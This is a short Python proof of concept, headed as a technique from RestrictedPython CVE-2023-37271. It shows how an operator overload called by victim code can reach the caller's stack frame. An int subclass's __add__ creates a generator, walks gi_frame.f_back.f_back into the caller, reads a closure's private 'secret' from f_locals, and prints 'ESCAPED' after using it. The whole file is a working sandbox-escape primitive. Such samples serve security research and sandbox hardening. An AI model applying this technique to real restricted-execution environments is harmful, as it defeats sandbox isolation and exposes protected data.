# technique: an operator of ours, called by the victim, walks back to its frame
# goal: closure
# source: RestrictedPython, CVE-2023-37271
import random


def vault():
    secret = random.getrandbits(64)
    return lambda guess: (guess + 0) == secret


class Spy(int):
    def __add__(self, other):
        def look():
            yield me.gi_frame.f_back.f_back
        me = look()
        found.append(next(me).f_locals['secret'])
        return 0


found = []
check = vault()
check(Spy())
if check(found[0]):
    print('ESCAPED', found[0])
